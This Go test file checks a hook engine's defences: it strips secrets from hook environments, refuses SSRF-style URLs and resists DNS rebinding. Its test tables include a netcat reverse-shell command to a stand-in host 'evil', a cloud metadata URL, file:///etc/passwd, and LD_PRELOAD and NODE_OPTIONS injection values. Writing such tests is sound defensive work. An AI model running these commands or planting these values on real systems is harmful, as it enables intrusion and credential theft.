package security

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/luahook/luahook"
	"github.com/luahook/luahook/engine"
	"github.com/luahook/luahook/internal/config"
	"github.com/luahook/luahook/transports"
)

// childEnv runs a real command hook (sh -c env) through an engine whose
// config passes PASSED_ON_PURPOSE, and returns the environment it saw.
func childEnv(t *testing.T) []byte {
	t.Helper()
	out := filepath.Join(t.TempDir(), "env")
	dir := hooksDir(t, nil)
	cfg := fmt.Sprintf("[command]\npass_env = [\"PASSED_ON_PURPOSE\"]\n[[hooks.PreToolUse]]\ncommand = \"sh -c 'env > \\\"$1\\\"' sh %s\"\n", out)
	e := open(t, engine.Options{Dir: dir, ConfigPath: writeConfig(t, dir, cfg)})
	if res := pre(e, "bash", `{}`); failures(res) != "" {
		t.Fatalf("the hook failed: %s", failures(res))
	}
	env, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return env
}

func TestCommandHooksNeverSeeTheHostsSecrets(t *testing.T) {
	secrets := map[string]string{
		"GITHUB_TOKEN":          "ghp_secret1",
		"AWS_SECRET_ACCESS_KEY": "secret2",
		"OPENAI_API_KEY":        "sk-secret3",
		"DB_PASSWORD":           "secret4",
		"NPM_TOKEN":             "secret5",
		"GIT_ASKPASS_PAT":       "secret6",
		"SESSION_COOKIE":        "secret7",
		"DATABASE_URL":          "postgres://app:secret8@db/app",
		"GIT_PROXY":             "http://secret9@proxy:3128",
		"CI_HEADER":             "Authorization: Bearer secret10",
		"NODE_OPTIONS":          "--require /tmp/secret11.js",
		"PRIVATE_DEPLOY":        "secret12",
	}
	for k, v := range secrets {
		t.Setenv(k, v)
	}
	t.Setenv("LANG", "C.UTF-8")
	t.Setenv("PASSED_ON_PURPOSE", "explicit13")
	env := childEnv(t)
	for name, value := range secrets {
		if strings.Contains(string(env), value) {
			t.Errorf("the hook saw %s", name)
		}
	}
	for _, want := range []string{"LANG=C.UTF-8", "PASSED_ON_PURPOSE=explicit13", "LUAHOOK_EVENT=PreToolUse", "LUAHOOK_TOOL_NAME=bash"} {
		if !strings.Contains(string(env), want+"\n") {
			t.Errorf("the hook's environment lacks %s", want)
		}
	}
	t.Logf("%d secret variables withheld", len(secrets))
}

func TestConfiguredHooksAreRefusedAtLoadWhenUnsafe(t *testing.T) {
	tests := []struct{ name, hook, want string }{
		{"cleartext to a public host", `type = "http"` + "\n" + `url = "http://example.com/hook"`, "cleartext http://"},
		{"cloud metadata", `type = "http"` + "\n" + `url = "https://169.254.169.254/latest/meta-data"`, "169.254.169.254"},
		{"private address", `type = "http"` + "\n" + `url = "https://10.1.2.3/hook"`, "10.1.2.3"},
		{"loopback over https", `type = "http"` + "\n" + `url = "https://127.0.0.1/hook"`, "127.0.0.1"},
		{"IPv4-mapped loopback", `type = "http"` + "\n" + `url = "https://[::ffff:127.0.0.1]/hook"`, "127.0.0.1 is loopback"},
		{"decimal IP", `type = "http"` + "\n" + `url = "https://2130706433/hook"`, "2130706433"},
		{"credentials in the URL", `type = "http"` + "\n" + `url = "https://user:pw@policy.example.com/hook"`, "must not carry credentials"},
		{"file scheme", `type = "http"` + "\n" + `url = "file:///etc/passwd"`, "not an http:// or https:// URL"},
		{"link-local even with allow_private_network", `type = "http"` + "\n" + `url = "https://[fe80::1]/hook"` + "\nallow_private_network = true", "fe80::1"},
		{"command not on the allowlist", `command = "nc -e /bin/sh evil 4444"`, `"nc"`},
		{"relative script judged by its name", `command = "./scripts/evil.sh"`, "evil.sh"},
		{"unterminated quote", `command = "sh -c 'echo"`, "unterminated quote"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := hooksDir(t, nil)
			cfg := writeConfig(t, dir, "[[hooks.PreToolUse]]\n"+tt.hook+"\n")
			e, err := engine.Open(context.Background(), engine.Options{Dir: dir, ConfigPath: cfg, NoWatch: true})
			if err == nil {
				e.Close()
				t.Fatalf("engine.Open loaded the hook; want it refused")
			}
			// The config loader refuses what it can tell from the text;
			// the transports refuse the rest, as rejections.
			var f *luahook.Failure
			var ce *config.Error
			if !errors.As(err, &ce) && (!errors.As(err, &f) || f.Kind != luahook.FailRejected) {
				t.Errorf("engine.Open: %v (%T); want a *config.Error or a rejection", err, err)
			}
			if !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "luahook.toml:") {
				t.Errorf("engine.Open: %v; want an error naming the file, line and %q", err, tt.want)
			}
		})
	}
}

// rebinder answers every name with one address, as a rebinding DNS server
// would after the name passed a check.
type rebinder struct{ ip net.IP }

func (r rebinder) LookupIPAddr(context.Context, string) ([]net.IPAddr, error) {
	return []net.IPAddr{{IP: r.ip}}, nil
}

func TestHTTPHooksNeverDialAnAddressThatFailsTheCheck(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var accepted atomic.Int64
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	port := ln.Addr().(*net.TCPAddr).Port
	for _, ip := range []string{"127.0.0.1", "169.254.169.254", "10.0.0.1"} {
		t.Run(ip, func(t *testing.T) {
			h, err := transports.NewHTTP(transports.HTTPSpec{
				URL:      fmt.Sprintf("https://policy.example.com:%d/hook", port),
				Resolver: rebinder{net.ParseIP(ip)},
			})
			if err != nil {
				t.Fatalf("NewHTTP: %v (a public name passes the static check)", err)
			}
			defer h.Close()
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			_, err = h.Call(ctx, &luahook.Input{Event: luahook.Stop})
			if f := luahook.AsFailure(err); f == nil || !strings.Contains(f.Message, ip) {
				t.Errorf("Call: %v; want a failure naming the refused address %s", err, ip)
			}
		})
	}
	if n := accepted.Load(); n != 0 {
		t.Errorf("the loopback listener accepted %d connections", n)
	}
}

// The environment of a command hook is an allowlist: the names known to be
// harmless, LUAHOOK_*, and [command] pass_env. Every other inherited name is
// dropped, and a kept name whose value carries a credential (URL user info,
// a query-string credential, an authentication header, a known token shape)
// is dropped too.
func TestCommandHooksGetOnlyHarmlessOrPassedEnvironment(t *testing.T) {
	secrets := []struct{ name, value string }{
		// from the review
		{"CI_REGISTRY_PW", "s01-registry-pw"},
		{"NODE_PW", "s02-node-pw"},
		{"GIT_CONFIG_VALUE_0", "PRIVATE-TOKEN: s03-glpat"},
		{"GIT_CONFIG_PARAMETERS", "'http.extraheader=X-Api-Key: s04-api-key'"},
		{"GIT_REMOTE_URL", "https://git.example.com/r.git?token=s05-query"},
		{"GIT_ASKPASS", "/opt/s06-askpass-helper"},
		{"GIT_SSH_COMMAND", "ssh -i /home/op/.ssh/s07-deploy-key"},
		// more realistic shapes
		{"SSH_AUTH_SOCK", "/tmp/ssh-s08/agent.1"},
		{"ANTHROPIC_API_KEY", "sk-ant-api03-s09"},
		{"AWS_SESSION_TOKEN", "s10-aws-session"},
		{"AZURE_CLIENT_SECRET", "s11-azure"},
		{"GOOGLE_APPLICATION_CREDENTIALS", "/home/op/s12-sa.json"},
		{"KUBECONFIG", "/home/op/.kube/s13-config"},
		{"DOCKER_AUTH_CONFIG", `{"auths":{"r":{"auth":"s14"}}}`},
		{"VAULT_TOKEN", "hvs.s15"},
		{"SLACK_WEBHOOK_URL", "https://hooks.slack.com/services/T0/B0/s16"},
		{"SENTRY_DSN", "https://s17@o1.ingest.sentry.io/1"},
		{"PGPASSWORD", "s18-pg"},
		{"MYSQL_PWD", "s19-mysql"},
		{"REDIS_URL", "redis://:s20@cache:6379"},
		{"TWINE_PASSWORD", "s21-pypi"},
		{"CARGO_REGISTRY_TOKEN", "s22-cargo"},
		{"HF_TOKEN", "hf_s23abcdefghijklmnopqrstuvwxyz"},
		{"NODE_AUTH_TOKEN", "s24-node-auth"},
		{"NPM_CONFIG_USERCONFIG", "/home/op/s25-npmrc"},
		{"GH_ENTERPRISE_TOKEN", "s26-ghe"},
		{"DATADOG_APP_KEY", "s27-dd"},
		{"LD_PRELOAD", "/tmp/s28-evil.so"},
		{"NODE_OPTIONS", "--require /tmp/s29-evil.js"},
		{"DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/0/s30-bus"},
		// credentials smuggled into names that are otherwise kept
		{"LUAHOOK_FEED", "https://feeds.example.com/x?access_token=s31-feed"},
		{"LUAHOOK_BLOB", "https://b.s3.amazonaws.com/o?X-Amz-Credential=a&X-Amz-Signature=s32-sig"},
		{"LUAHOOK_HEADER", "Cookie: session=s33-cookie"},
		{"LUAHOOK_NOTE", "use Bearer s34abcdefghijklmnop"},
		{"LUAHOOK_GH", "ghp_s35abcdefghijklmnopqrstuvwxyz0123"},
		{"LUAHOOK_DB_PW", "s36-pw"},
		{"LUAHOOK_SMTP_PASSWD_FILE", "/run/s37"},
		{"LUAHOOK_PROXY", "http://op:s38@proxy:3128"},
		{"LUAHOOK_KEY_PEM", "-----BEGIN OPENSSH PRIVATE KEY-----s39"},
		{"LUAHOOK_SIGNED", "https://cdn.example.com/f?Expires=1&Signature=s40-sig&Key-Pair-Id=K"},
	}
	for _, s := range secrets {
		t.Setenv(s.name, s.value)
	}
	harmless := map[string]string{
		"PATH": os.Getenv("PATH"), "HOME": "/home/op", "USER": "op", "LOGNAME": "op", "LANG": "C.UTF-8",
		"LC_ALL": "C.UTF-8", "TERM": "xterm-256color", "TZ": "UTC", "TMPDIR": os.TempDir(), "SHELL": "/bin/sh",
		"CI": "true", "EDITOR": "vi", "XDG_CONFIG_HOME": "/home/op/.config", "GIT_AUTHOR_NAME": "Op",
		"LUAHOOK_MODE": "strict", "LUAHOOK_DOCS": "https://example.com/luahook?page=env",
	}
	for k, v := range harmless {
		t.Setenv(k, v)
	}
	t.Setenv("PASSED_ON_PURPOSE", "https://api.example.com/?token=explicit-consent")
	env := childEnv(t)
	for i, s := range secrets {
		if tag := fmt.Sprintf("s%02d", i+1); strings.Contains(string(env), tag) {
			t.Errorf("the hook saw %s=%s", s.name, s.value)
		}
	}
	for k, v := range harmless {
		if !strings.Contains(string(env), "\n"+k+"="+v+"\n") && !strings.HasPrefix(string(env), k+"="+v+"\n") {
			t.Errorf("the hook's environment lacks the harmless %s=%s", k, v)
		}
	}
	if !strings.Contains(string(env), "PASSED_ON_PURPOSE=https://api.example.com/?token=explicit-consent\n") {
		t.Error("pass_env is the operator's consent: the named variable must reach the hook as it is")
	}
}
